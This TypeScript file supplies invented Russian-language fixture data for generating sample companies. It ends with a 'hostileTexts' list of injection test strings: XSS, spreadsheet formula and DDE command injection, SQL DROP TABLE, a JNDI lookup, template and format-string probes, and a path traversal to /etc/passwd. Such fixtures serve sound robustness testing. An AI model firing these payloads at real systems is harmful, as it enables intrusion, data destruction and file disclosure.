/** The vocabulary of sample companies. All of it is invented; no name of a real firm or person is meant. */

export interface City {
  readonly name: string;
  readonly areaCode: string;
  readonly postalCode: string;
  /** First two digits of the tax office that gives an INN there. */
  readonly taxRegion: string;
}

export const cities: readonly City[] = [
  { name: 'Москва', areaCode: '495', postalCode: '101000', taxRegion: '77' },
  { name: 'Санкт-Петербург', areaCode: '812', postalCode: '190000', taxRegion: '78' },
  { name: 'Казань', areaCode: '843', postalCode: '420000', taxRegion: '16' },
  { name: 'Екатеринбург', areaCode: '343', postalCode: '620000', taxRegion: '66' },
  { name: 'Новосибирск', areaCode: '383', postalCode: '630000', taxRegion: '54' },
  { name: 'Нижний Новгород', areaCode: '831', postalCode: '603000', taxRegion: '52' },
  { name: 'Самара', areaCode: '846', postalCode: '443000', taxRegion: '63' },
  { name: 'Ростов-на-Дону', areaCode: '863', postalCode: '344000', taxRegion: '61' },
  { name: 'Пермь', areaCode: '342', postalCode: '614000', taxRegion: '59' },
  { name: 'Йошкар-Ола', areaCode: '836', postalCode: '424000', taxRegion: '12' },
];

export const streets = ['Речная', 'Садовая', 'Полевая', 'Заводская', 'Вокзальная', 'Озёрная', 'Мельничная', 'Лесная'];

// prettier-ignore
const firmStarts = [
  'Север', 'Альфа', 'Волга', 'Гранит', 'Дельта', 'Заря', 'Исток', 'Кедр', 'Лайм', 'Маяк', 'Норд', 'Орион', 'Парус',
  'Радуга', 'Сатурн', 'Терем', 'Урал', 'Факел', 'Хвоя', 'Чайка', 'Штиль', 'Эра', 'Юпитер', 'Янтарь',
];
// prettier-ignore
const firmEnds = [
  'строй', 'торг', 'пром', 'сервис', 'логистик', 'мебель', 'текстиль', 'агро', 'мет', 'хим', 'софт', 'проект', 'свет', 'пак',
];
const firmTails = ['', '', '', ' Плюс', ' Групп', '-М', ' и партнёры', ' 2000'];

export const firmWords = { starts: firmStarts, ends: firmEnds, tails: firmTails };

export const legalForms = ['ООО', 'ООО', 'ООО', 'АО', 'ПАО', 'ИП', 'АНО'] as const;

// prettier-ignore
export const positions = [
  'Менеджер по продажам', 'Старший менеджер', 'Бухгалтер', 'Главный инженер', 'Юрист', 'Аналитик', 'Маркетолог',
  'Специалист поддержки', 'Логист', 'Закупщик', 'Кадровик', 'Системный администратор', 'Дизайнер', 'Секретарь',
];

export const contactPosts = [
  'Директор',
  'Закупщик',
  'Главный бухгалтер',
  'Инженер',
  'Завхоз',
  'Юрист',
  'Секретарь',
  '',
];

// prettier-ignore
export const departmentNames = [
  'Отдел продаж', 'Бухгалтерия', 'Отдел маркетинга', 'Производство', 'Служба поддержки', 'Юридический отдел',
  'Отдел кадров', 'Логистика', 'Закупки', 'Информационные технологии', 'Проектный офис', 'Отдел качества',
];

// prettier-ignore
export const goods = [
  'партия светильников', 'обслуживание кондиционеров', 'поставка кабеля', 'монтаж стеллажей', 'лицензии на год',
  'сувениры к празднику', 'аудит сети', 'аренда погрузчика', 'ремонт кровли', 'обучение кассиров', 'вывеска',
  'доставка сырья', 'упаковка с печатью', 'сайт-каталог',
];

// prettier-ignore
export const taskTitles = [
  'Подготовить договор', 'Сверить счета', 'Обзвонить клиентов', 'Собрать отчёт за квартал', 'Обновить прайс-лист',
  'Провести инвентаризацию', 'Согласовать макет', 'Заказать пропуска', 'Проверить отгрузку', 'Написать инструкцию',
  'Настроить телефонию', 'Разобрать почту', 'Перенести архив', 'Продлить домен',
];

// prettier-ignore
export const sentences = [
  'Клиент просит ответить до пятницы.', 'Смету отправили, ждём подписи.', 'Созвонились, договорились о встрече на объекте.',
  'Нужна скидка, иначе уйдут к соседям.', 'Документы лежат в общей папке.', 'Склад подтвердил остатки.',
  'Первую часть оплатили, вторую — после монтажа.', 'Просили не звонить раньше десяти.', 'Передали образцы курьером.',
  'Срок сдвинули на неделю, все согласны.', 'Решили начать с пробной партии.', 'Ответственный в отпуске до понедельника.',
];

/** Texts that break careless programs: markup, formulas, queries, nested BBCode, rare letters. */
export const hostileTexts: readonly string[] = [
  '<script>alert("пример")</script>',
  '"><img src=x onerror=alert(1)>',
  '=HYPERLINK("https://example.com/?q="&A1;"открыть")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "Роберт'); DROP TABLE contacts;--",
  '[B][I][U][S][B][I]вложенный[/I][/B][/S][/U][/I][/B] [URL=javascript:alert(1)]ссылка[/URL]',
  'Ёлочка «№ 5» — 50 % & 🎄👩‍👩‍👧‍👦🏴‍☠️',
  '\u202Eтекст справа налево\u202C',
  'строка\r\nс переводом\tи табуляцией',
  '${jndi:ldap://example.com/a} {{7*7}} %s %n %00',
  'Zalgo z\u0338\u035D\u0325a\u0337\u0301l\u0336g\u0335o',
  '\\..\\..\\windows и ../../etc/passwd',
];
